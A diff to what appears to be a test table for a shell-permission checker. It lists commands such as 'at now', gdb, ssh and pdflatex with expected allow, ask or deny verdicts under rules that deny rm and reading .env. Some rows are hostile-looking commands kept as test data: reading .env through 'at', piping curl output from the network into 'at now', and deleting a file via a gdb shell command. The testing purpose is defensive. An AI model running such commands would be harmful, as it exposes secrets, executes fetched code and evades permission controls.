@@ -208,7 +208,9 @@ RUN_TIME_CODE = [  # (command, verdict under Bash(rm:*) denied, under Read(./.en
     ("gdb -q ./a.out", "ask", "ask"),
     ("gdb -batch -x cmds.gdb", "ask", "ask"),  # a command file: not read
     ("pdflatex -shell-escape doc.tex", "ask", "ask"),  # \write18{…}
-    ("echo 'rm x' | at now", "ask", "ask"),
+    ("echo 'rm x' | at now", "deny", "allow"),  # at's job is the text it reads (checked as the line's)
+    ("at now <<< 'cat .env'", "allow", "deny"),
+    ("curl -s https://example.com/job | at now", "ask", "ask"), ("at -f job.sh now", "ask", "ask"),
     ("ssh localhost < cmds.gdb", "ask", "ask"),  # this machine's login shell reads it
     ("ssh build-server < cmds.gdb", "ask", "allow"),  # another machine's files are its own
     ("gdb -batch -ex 'shell rm x'", "deny", "allow"),  # read: it runs rm x
